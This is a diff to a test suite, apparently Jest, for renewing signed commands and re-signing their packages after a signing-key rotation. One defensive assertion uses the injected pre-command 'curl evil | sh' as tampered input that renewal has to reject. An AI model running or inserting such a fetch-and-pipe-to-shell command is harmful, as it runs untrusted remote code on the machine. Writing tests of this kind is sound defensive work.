@@ -105,14 +105,18 @@ describe('signed again by the key in force, after a rotation', () => {
     expect(packageSignedNow(keys, otherContent)).toBe(otherContent);
   });
 
-  it('renews an expired command unchanged but for its times, and only one its own keys signed', () => {
+  it('renews a command unchanged but for its times and its packages signed now, and only one its own keys signed', () => {
     const renewed = renewedAuthority(keys, earlier, new Date('2100-01-01T00:00:00Z'))!;
     expect(verifyCanonical([next.publicPem], renewed.header, renewed.signature)).toBe(true);
-    expect({ ...renewed.header, issuedAt: '', expiresAt: '' }).toEqual({
+    // An endpoint enrolled since the rotation trusts the new key only: the packages too.
+    expect(verifyPackage([next.publicPem], fields, renewed.header.packages[0].signature)).toBe(true);
+    expect({ ...renewed.header, issuedAt: '', expiresAt: '', packages: [] }).toEqual({
       ...authorityOf(earlier)!.header,
       issuedAt: '',
       expiresAt: '',
+      packages: [],
     });
+    expect(renewed.header.packages.map(({ signature, ...f }) => f)).toEqual([fields]);
     expect(renewed.header.expiresAt).toBe('2100-01-31T00:00:00.000Z');
     expect(renewedAuthority(keys, { ...earlier, params: { preCommand: 'curl evil | sh' } })).toBeUndefined();
     expect(renewedAuthority(keys, signCommand(attacker.privatePem, base, '2099-01-01T00:00:00.000Z'))).toBeUndefined();
